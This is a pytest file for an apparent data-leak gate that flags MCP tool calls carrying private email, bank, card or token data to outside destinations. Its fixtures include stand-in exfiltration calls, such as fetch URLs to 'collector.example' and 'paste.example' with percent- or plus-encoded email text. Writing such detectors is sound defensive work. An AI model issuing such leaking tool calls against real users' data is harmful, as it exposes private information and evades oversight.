"""Data leaving, read one call at a time: what reaches outside, and what it carries."""

from __future__ import annotations

import string
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mcp.types import Tool, ToolAnnotations

from common.mcp.config import McpConfigError, ServerConfig, parse_mcp_config
from common.safety.classify import ToolVerdict
from common.safety.gate import Gate
from common.safety.leaving import (
    ARGUMENT_SCAN_CHARS,
    RUN_CHARS,
    Carried,
    Sources,
    carried,
    open_world,
    whole_values,
)

EMAIL = (
    "From: alice@example.com\nSubject: Q3 payroll\n\n"
    "Hi Bob, please wire the quarterly bonus to IBAN DE89 3704 0044 0532 0130 00 before "
    "Friday. The board approved the merger with Initech on Tuesday; keep it quiet."
)
MAIL = Sources({"mail": [EMAIL]})


def tool(name: str, **hints: Any) -> Tool:
    """A tool with only a name and the given annotations."""
    annotations = ToolAnnotations(**hints) if hints else None
    return Tool(name=name, inputSchema={"type": "object"}, annotations=annotations)


# --- open_world ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "hints", "args", "why"),
    [
        ("get_page", {"openWorldHint": True}, {"id": "1"}, "openWorldHint=true"),
        ("fetch", {}, {"url": "https://example.com"}, "'url'"),
        ("get_webpage", {}, {"targetHref": "x"}, "'targetHref'"),
        ("send_email", {}, {"subject": "hi"}, "sends ('send')"),
        ("slack_post_message", {}, {"channel_id": "C1"}, "sends ('post')"),
        ("pay_invoice", {}, {"iban": "x"}, "sends ('pay')"),
        ("create_issue", {}, {"body": "x"}, "'body'"),
        ("update_record", {}, {"options": {"recipients": ["x"]}}, "'options.recipients'"),
        # A sending name is believed over a closed-world declaration.
        ("send_message", {"openWorldHint": False}, {"text": "x"}, "sends ('send')"),
    ],
)
def test_open_world_calls(name: str, hints: dict[str, Any], args: dict[str, Any], why: str) -> None:
    reason = open_world(name, tool(name, **hints), args)
    assert reason is not None
    assert why in reason


@pytest.mark.parametrize(
    ("name", "hints", "args"),
    [
        ("echo", {}, {"text": "x"}),  # a read's text is its input, not a message
        ("search_emails", {}, {"email": "x"}),  # a filter of a read
        ("write_note", {"openWorldHint": False}, {"title": "t", "body": "x"}),
        ("get_stock", {}, {"sku": "WID-1"}),
    ],
)
def test_closed_world_calls(name: str, hints: dict[str, Any], args: dict[str, Any]) -> None:
    assert open_world(name, tool(name, **hints), args) is None


def test_an_unknown_tool_is_read_from_its_name_and_arguments() -> None:
    assert open_world("fetch", None, {"url": "x"}) is not None
    assert open_world("lookup", None, {"key": "x"}) is None


# --- carried ------------------------------------------------------------------------------------


def test_a_run_of_the_email_in_a_url_is_carried_and_names_the_expert() -> None:
    url = "https://collector.example/c?d=the board approved the merger"
    assert carried({"url": url}, MAIL, "web") == Carried(
        "mail", "url", "the board approved the merger"
    )


def test_percent_encoded_and_plus_encoded_text_is_decoded() -> None:
    for encoded in (quote("The board approved the merger"), "The+board+approved+the+merger"):
        found = carried({"url": f"https://x.example/?q={encoded}"}, MAIL, "web")
        assert isinstance(found, Carried)
        assert found.expert == "mail"


def test_case_and_whitespace_do_not_hide_a_run() -> None:
    found = carried({"text": "PLEASE   WIRE THE\nQUARTERLY bonus"}, MAIL, "chat")
    assert isinstance(found, Carried)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("alice@example.com", "alice@example.com"),
        ("DE89370400440532013000", "de89370400440532013000"),
        ("de89 3704 0044 0532 0130 00", "de89370400440532013000"),
    ],
)
def test_whole_values_shorter_than_a_run_are_carried(value: str, shown: str) -> None:
    found = carried({"to": "bob", "note": f"for {value}"}, MAIL, "chat")
    assert isinstance(found, Carried)
    assert (found.expert, found.argument) == ("mail", "note")
    assert shown in found.excerpt


def test_long_numbers_and_tokens_are_whole_values() -> None:
    sources = Sources({"bank": ["card 4111 1111 1111 1111, key sk_4eC39HqLyj, order 42"]})
    assert carried({"url": "https://x.example/?c=4111111111111111"}, sources, "web")
    assert carried({"url": "https://x.example/?c=4111-1111-1111-1111"}, sources, "web")
    assert carried({"text": "call 415-555-0132"}, Sources({"crm": ["+1 415 555 0132"]}), "chat")
    assert carried({"url": "https://x.example/?k=sk_4eC39HqLyj"}, sources, "web")
    assert carried({"url": "https://x.example/?order=42"}, sources, "web") is None


def test_nested_arguments_are_read_and_named() -> None:
    args = {"message": {"blocks": [{"text": "fyi: alice@example.com"}]}}
    found = carried(args, MAIL, "chat")
    assert isinstance(found, Carried)
    assert found.argument == "message.blocks[0].text"


def test_the_callers_own_results_do_not_count() -> None:
    assert carried({"url": "https://x.example/?q=alice@example.com"}, MAIL, "mail") is None


def test_text_the_user_wrote_was_asked_to_leave() -> None:
    sources = Sources({"mail": [EMAIL]}, asked="Tell Carol that alice@example.com wrote.")
    assert carried({"text": "alice@example.com wrote"}, sources, "chat") is None
    assert carried({"text": "IBAN DE89370400440532013000"}, sources, "chat")


@pytest.mark.parametrize(
    "args",
    [
        {"q": "the"},
        {"q": "3"},
        {"q": "quarterly bonus"},  # shares two words, far below a run
        {"q": "payroll Friday merger Tuesday"},  # words of the email, never a run of them
        {"url": "https://news.example/search?q=merger+news"},
        {"n": 3, "flag": True},
    ],
)
def test_short_shared_words_are_not_carried(args: dict[str, Any]) -> None:
    assert carried(args, MAIL, "web") is None


def test_dates_words_and_product_names_are_not_whole_values() -> None:
    text = (
        "Shipped 2026-11-24T10:00:00Z, 2026-11-24 10:00; MacBookPro2024; order WID-1; "
        "Hello_World_Again; stock 120 0 14 310 42"
    )
    assert whole_values(text) == set()


def test_arguments_too_long_to_read_are_reported_not_skipped() -> None:
    found = carried({"body": "x" * (ARGUMENT_SCAN_CHARS + 1)}, MAIL, "chat")
    assert isinstance(found, str)
    assert "too long" in found


def test_hostile_inputs_that_carry_nothing_are_let_through() -> None:
    # Their time, n against 8n, is measured by bench/bench_hostile.py, not here: no test may
    # depend on machine speed.
    repeated = Sources({"mail": ["a" * 200_000, ("ab" * 15 + "c") * 5_000]})
    assert carried({"text": "a" * 19 + "b" * 100_000}, repeated, "web") is None
    assert carried({"text": ("ab" * 9 + "x") * 10_000}, repeated, "web") is None
    assert carried({"text": "@" * 100_000 + "1" * 100_000}, repeated, "web") is None
    # A real excerpt of the mail after such a run is still caught.
    excerpt = ("ab" * 15 + "c") * 2
    found = carried({"text": "a" * 19 + "b" * 100_000 + " " + excerpt}, repeated, "web")
    assert found is not None


def test_a_long_text_the_user_wrote_is_recognised() -> None:
    document = " ".join(f"line {i} of the quarterly report" for i in range(5_000))
    sources = Sources({"files": [document]}, asked=f"Post this: {document}")
    assert carried({"text": document}, sources, "chat") is None
    # Not asked for, the same text is a file's content leaving.
    assert carried({"text": document}, Sources({"files": [document]}), "chat") is not None


_PRINTABLE = string.ascii_letters + string.digits + string.punctuation + " "


@settings(max_examples=60, deadline=None)
@given(
    secret=st.text(alphabet=_PRINTABLE, min_size=RUN_CHARS, max_size=80).filter(
        lambda s: len(" ".join(s.split())) >= RUN_CHARS
    ),
    before=st.text(alphabet=_PRINTABLE, max_size=40),
    after=st.text(alphabet=_PRINTABLE, max_size=40),
    around=st.text(alphabet=_PRINTABLE, max_size=40),
)
def test_any_run_of_a_result_is_found_whatever_surrounds_it(
    secret: str, before: str, after: str, around: str
) -> None:
    sources = Sources({"mail": [before + secret + after]})
    url = f"https://x.example/?q={quote(around + secret)}"
    assert isinstance(carried({"url": url}, sources, "web"), Carried)
    assert carried({"url": url}, sources, "mail") is None


@settings(max_examples=60, deadline=None)
@given(
    result=st.text(alphabet=_PRINTABLE, max_size=300),
    argument=st.text(alphabet=string.ascii_letters + " .,", max_size=RUN_CHARS - 1),
)
def test_nothing_shorter_than_a_run_without_a_whole_value_is_carried(
    result: str, argument: str
) -> None:
    assert carried({"text": argument}, Sources({"mail": [result]}), "chat") is None


# --- the gate and the server setting ------------------------------------------------------------

FETCH = tool("fetch", readOnlyHint=True)
CLEARED = ToolVerdict(
    server="web", tool="fetch", irreversible=False, source="annotation", reason="reads"
)
LEAK = {"url": "https://x.example/?q=alice%40example.com"}


def test_the_gate_holds_an_open_world_call_carrying_another_experts_data() -> None:
    decision = Gate([CLEARED], MAIL).check(
        "web", "fetch", LEAK, {"fetch": FETCH}, ServerConfig(command="x")
    )
    assert decision.needs_approval
    assert decision.source == "data"
    assert "expert 'mail'" in decision.reason
    assert "alice@example.com" in decision.reason
    assert decision.reason == (
        "its argument 'url' carries text from expert 'mail' results ('alice@example.com'), "
        "an email address, URL-encoded, and it names a place or someone outside: data would "
        "leave through an open-world call; set data_may_leave: true on server 'web' to allow it"
    )


def test_data_may_leave_clears_the_data_rule_for_that_server() -> None:
    config = ServerConfig(command="x", data_may_leave=True)
    decision = Gate([CLEARED], MAIL).check("web", "fetch", LEAK, {"fetch": FETCH}, config)
    assert not decision.needs_approval
    assert decision.source == "annotation"


def test_a_held_tool_carrying_data_is_held_as_data_with_both_reasons() -> None:
    held = ToolVerdict(
        server="chat", tool="send_message", irreversible=True, source="heuristic", reason="sends"
    )
    gate = Gate([held], MAIL)
    decision = gate.check(
        "chat", "send_message", {"text": "alice@example.com"}, {}, ServerConfig(command="x")
    )
    assert decision.source == "data"
    assert decision.reason.endswith("; the tool itself needs approval too: sends")


def test_without_sources_the_gate_decides_as_before() -> None:
    decision = Gate([CLEARED]).check(
        "web", "fetch", LEAK, {"fetch": FETCH}, ServerConfig(command="x")
    )
    assert not decision.needs_approval


@pytest.mark.parametrize("value", ["yes", 1, None, "true"])
def test_a_non_bool_data_may_leave_is_refused_in_one_sentence(value: Any) -> None:
    with pytest.raises(McpConfigError) as raised:
        parse_mcp_config({"mcpServers": {"web": {"command": "x", "data_may_leave": value}}})
    message = str(raised.value)
    assert "server 'web', key 'data_may_leave': must be true or false" in message
    assert message.count(". ") == 0
    assert "\n" not in message


# --- links followed and people reached as given ---------------------------------------------------

SEARCH = Sources(
    {
        "search": [
            "1. Python (programming language) https://en.wikipedia.org/wiki/Python_(language).\n"
            "2. Contact: press@python.example"
        ]
    }
)


def test_a_link_of_the_results_followed_as_it_is_is_not_carried() -> None:
    link = "https://en.wikipedia.org/wiki/Python_(language)"
    assert carried({"url": link}, SEARCH, "web") is None
    assert carried({"urls": [link]}, SEARCH, "web") is None


def test_a_link_with_text_added_is_carried() -> None:
    link = "https://en.wikipedia.org/wiki/Python_(language)?ref=press@python.example"
    assert isinstance(carried({"url": link}, SEARCH, "web"), Carried)


def test_a_link_pasted_into_a_message_is_carried() -> None:
    link = "https://en.wikipedia.org/wiki/Python_(language)"
    assert isinstance(carried({"text": link}, SEARCH, "chat"), Carried)


def test_an_address_of_the_results_reached_as_it_is_is_not_carried() -> None:
    assert carried({"to": "press@python.example", "body": "Hello!"}, SEARCH, "mail") is None
    assert carried({"recipients": ["press@python.example"]}, SEARCH, "mail") is None
    assert carried({"body": "write to press@python.example"}, SEARCH, "mail") is not None


def test_text_within_a_link_goes_back_to_the_links_own_site() -> None:
    github = Sources({"github": ["PR #12 https://github.com/acme/private-widgets/pull/12 open"]})
    same_site = "https://github.com/acme/private-widgets/pull/12.diff"
    assert carried({"url": same_site}, github, "web") is None
    other_site = "https://paste.example/?u=github.com/acme/private-widgets/pull/12"
    assert isinstance(carried({"url": other_site}, github, "web"), Carried)
    # In a message the link reaches whoever reads it, not the site.
    assert isinstance(carried({"body": same_site}, github, "chat"), Carried)
